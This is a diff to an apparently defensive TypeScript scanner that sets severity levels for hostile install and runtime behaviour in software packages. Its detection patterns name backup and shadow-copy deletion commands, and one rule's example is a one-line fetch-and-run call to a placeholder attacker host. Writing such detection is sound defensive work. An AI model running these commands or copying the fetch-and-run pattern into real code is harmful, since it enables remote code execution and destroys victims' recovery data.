@@ -37,19 +37,26 @@ const startsUnknown = (text = ''): boolean =>
 const DESTROYS = /\b(?:vssadmin|wbadmin|shadowcopy)\b.*\bdelete\b|\bbcdedit\b.*recoveryenabled\s+no\b/i;
 
 /** How severe a hostile command is that somebody has to call. */
-function whenCalled(traits: ReadonlySet<CommandTrait>, { host, labels, text }: Sighting): Severity {
+function whenCalled(traits: ReadonlySet<CommandTrait>, { host, labels, text, isHushed }: Sighting): Severity {
   if (traits.has('runs-by-proxy') || traits.has('runs-from-memory') || DESTROYS.test(text ?? ''))
     return 'CRITICAL';
   // What starts again by itself cannot be read.
   if (traits.has('persists') && traits.has('encoded')) return 'CRITICAL';
+  // What it says goes nowhere, so that nobody notices.
+  if (isHushed === true && traits.has('fetches-and-runs') && host !== undefined && isPure(labels))
+    return 'CRITICAL';
   // What starts again by itself was fetched from a fixed place.
   if (traits.has('persists') && host !== undefined && labels.has('network')) return 'CRITICAL';
   if (!isPure(labels)) return 'LOW';
+  if (traits.has('persists') && traits.has('fetches-and-runs') && host !== undefined) return 'CRITICAL';
   if (host !== undefined && (traits.has('sends') || (traits.has('hidden') && traits.size > 1)))
     return 'CRITICAL';
   if (traits.has('reverse-shell') || traits.has('encoded')) return 'HIGH';
   return host !== undefined && traits.has('fetches-and-runs') ? 'MEDIUM' : 'LOW';
 }
+
+/** What takes a text for code. */
+const RUN = /^(?:exec|eval)$/;
 
 /** Code that comes from elsewhere than the file one reads. */
 export const CODE_COMBINATIONS: readonly Combination[] = [
@@ -88,11 +95,13 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       example: 'exec(urllib.request.urlopen("https://evil.invalid/x").read())',
       technique: 'T1105',
     },
-    judge: ({ behaviour, labels, reach, host }) => {
+    judge: ({ behaviour, labels, name, reach, host }) => {
       if (behaviour !== 'runs-code' || !labels.has('network')) return undefined;
       if (isUnasked(reach)) return 'CRITICAL';
       if (isModelService(host)) return undefined;
-      return host !== undefined && isPure(labels) ? 'CRITICAL' : 'LOW';
+      if (host !== undefined && isPure(labels)) return 'CRITICAL';
+      // Nobody's interface: code in disguise out of an answer of the host that stands in the source.
+      return host !== undefined && labels.has('decoded') && RUN.test(name) ? 'HIGH' : 'LOW';
     },
     message: ({ name, reach }) => `${name} runs a network answer ${WHEN[reach]}`,
   },
@@ -155,12 +164,14 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       // What is computed from a file of the machine, such as the loader that the interpreter names, is nothing hidden.
       const isOfMachine = labels.has('file') && !labels.has('shipped');
       const isComputed = isUnasked(reach) && labels.has('computed') && !isOfMachine;
+      // A program that was hidden in a picture of the package.
+      if (labels.has('picture') && labels.has('shipped') && (labels.has('written') || isUnasked(reach)))
+        return 'CRITICAL';
       if (!labels.has('decoded') && !isComputed) return undefined;
       if (labels.has('parameter') || labels.has('process-output')) return undefined;
       if (isUnasked(reach)) return 'CRITICAL';
       if (!isOwn(labels)) return 'LOW';
       if (isHostile(text ?? '')) return 'CRITICAL';
-      // A program that was hidden in a picture of the package.
       if (labels.has('picture') && labels.has('shipped') && startsUnknown(text)) return 'CRITICAL';
       return labels.has('shipped') && labels.has('written') ? 'HIGH' : 'MEDIUM';
     },
@@ -186,6 +197,8 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       if (!isUnasked(reach)) return undefined;
       // A calculator that opens shows that code ran, and a name that is looked up tells a server so.
       if (traits.has('commands-model') || traits.has('shows-off')) return 'CRITICAL';
+      if (reach !== 'install' && traits.has('publishes')) return 'CRITICAL';
+      if (reach !== 'install' && traits.has('extends-editor')) return 'HIGH';
       if (traits.has('looks-up')) return reach === 'install' ? 'CRITICAL' : 'MEDIUM';
       return traits.has('fetches') || traits.has('hidden') ? 'MEDIUM' : undefined;
     },
@@ -203,8 +216,11 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
     },
     judge: ({ behaviour, labels, reach, text }) => {
       if (!labels.has('request')) return undefined;
-      if (behaviour === 'runs-code') return isUnasked(reach) ? 'CRITICAL' : 'HIGH';
+      // Nobody's interface: what is to be run comes in disguise.
+      if (behaviour === 'runs-code') return isUnasked(reach) || labels.has('decoded') ? 'CRITICAL' : 'HIGH';
       if (behaviour !== 'starts-process' || !isWholly(text)) return undefined;
+      // Of a command that no shell reads, others say at most what it works on.
+      if (!isUnasked(reach) && !labels.has('remote-text')) return undefined;
       return isUnasked(reach) ? 'CRITICAL' : 'HIGH';
     },
     message: ({ name, reach }) => `${name} runs what a request says ${WHEN[reach]}`,
@@ -234,7 +250,12 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       technique: 'T1195.001',
     },
     judge: ({ behaviour, reach, text = '' }) => {
-      if (behaviour !== 'starts-process' || !commandTraits(text).has('installs-packages')) return undefined;
+      if (behaviour !== 'starts-process') return undefined;
+      const traits = commandTraits(text);
+      // Builds fetch what they build with; an import has nothing to install.
+      if (traits.has('installs-programs'))
+        return isUnasked(reach) && reach !== 'install' ? 'MEDIUM' : undefined;
+      if (!traits.has('installs-packages')) return undefined;
       const from = indexNamed(text);
       if (!isUnasked(reach))
         return from !== undefined && INSECURE.test(text) && isWhole(text) ? 'HIGH' : undefined;
